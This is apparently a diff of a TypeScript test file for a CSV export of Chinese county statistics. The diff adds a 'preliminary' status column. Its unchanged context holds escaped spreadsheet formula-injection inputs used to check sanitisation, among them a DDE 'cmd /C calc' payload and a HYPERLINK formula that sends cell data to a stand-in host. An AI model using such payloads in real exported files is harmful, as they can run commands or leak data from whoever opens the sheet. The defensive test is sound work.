@@ -311,7 +311,9 @@ describe('renderCsv', () => {
     expect(header).toEqual([...CSV_HEADER]);
     expect(rows).toHaveLength(expectedRows(doc));
     expect(rows).toHaveLength(14 + 4 * 5 + 8 * 3 + 5 * 3 + 3 * 2 + 5);
-    for (const row of rows) expect(row).toHaveLength(9);
+    for (const row of rows) expect(row).toHaveLength(10);
+    // Every row carries the revision's status.
+    for (const row of rows) expect(row[9]).toBe('preliminary');
 
     const find = (place: string, measure: string, section?: string): string[] | undefined =>
       rows.find((r) => r[2] === place && r[3] === measure && (section === undefined || r[0] === section));
@@ -325,9 +327,10 @@ describe('renderCsv', () => {
       '84420',
       '75160',
       '80400',
+      'preliminary',
     ]);
-    expect(find('三门峡市', 'resolution_rate', '二、矛盾纠纷排查化解')?.slice(5)).toEqual(['%', '0.9152', '0.9', '0.9009']);
-    expect(find('三门峡市', 'contract_value')?.slice(6)).toEqual(['', '', '']);
+    expect(find('三门峡市', 'resolution_rate', '二、矛盾纠纷排查化解')?.slice(5, 9)).toEqual(['%', '0.9152', '0.9', '0.9009']);
+    expect(find('三门峡市', 'contract_value')?.slice(6, 9)).toEqual(['', '', '']);
     expect(find('卢氏县', 'visits')).toEqual([
       '表1 各县（市、区）主要指标',
       '411224000000',
@@ -338,6 +341,7 @@ describe('renderCsv', () => {
       '36210',
       '',
       '',
+      'preliminary',
     ]);
     expect(find('三门峡市', 'revenue_yuan', '表1 各县（市、区）主要指标')?.[6]).toBe('3856.42');
     expect(find('张汴乡', 'resolution_rate')?.[6]).toBe('');
@@ -351,6 +355,7 @@ describe('renderCsv', () => {
       '1986.3',
       '',
       '',
+      'preliminary',
     ]);
     expect(find('三门峡市', 'villages_silent')?.[6]).toBe('2');
     // The two 城关镇 are told apart by their codes.
@@ -387,7 +392,7 @@ describe('renderCsv', () => {
     expect(rows).toHaveLength(expectedRows(doc));
     const first = rows[0]!;
     expect(first.slice(0, 2)).toEqual(["'\t=1+1", '411200000000']);
-    expect(first.slice(4)).toEqual(["'-1+cmd|' /C calc'!A0", "'@SUM(1)", '-3', '-0.5', '80400']);
+    expect(first.slice(4, 9)).toEqual(["'-1+cmd|' /C calc'!A0", "'@SUM(1)", '-3', '-0.5', '80400']);
     expect(rows.filter((r) => r[2] === '\'=HYPERLINK("http://x.example/?"&A1,"点击")').length).toBeGreaterThan(0);
     expect(rows.filter((r) => r[2] === "'+86 卢氏县").length).toBeGreaterThan(0);
     expect(rows.filter((r) => r[2] === "'\r=1+1").length).toBeGreaterThan(0);
@@ -396,7 +401,7 @@ describe('renderCsv', () => {
     // No text cell of the file starts a formula; only the value columns may start with '-', and parse as numbers.
     for (const row of rows) {
       row.slice(0, 6).forEach((cell) => expect(cell).not.toMatch(/^[=+\-@\t\r]/));
-      row.slice(6).forEach((cell) => expect(cell === '' || Number.isFinite(Number(cell)), cell).toBe(true));
+      row.slice(6, 9).forEach((cell) => expect(cell === '' || Number.isFinite(Number(cell)), cell).toBe(true));
     }
   });
 });
@@ -462,8 +467,9 @@ describe('a breakdown whose rows are measures: 城乡分列', () => {
       '30120',
       '',
       '',
+      'preliminary',
     ]);
-    expect(section.find((r) => r[3] === 'grid_members_active.above_village')?.slice(5)).toEqual(['人', '', '', '']);
+    expect(section.find((r) => r[3] === 'grid_members_active.above_village')?.slice(5, 9)).toEqual(['人', '', '', '']);
     expect(section.find((r) => r[3] === 'revenue_yuan.total')?.slice(4, 7)).toEqual(['合作社销售收入（合计）', '万元', '3856.42']);
   });
 
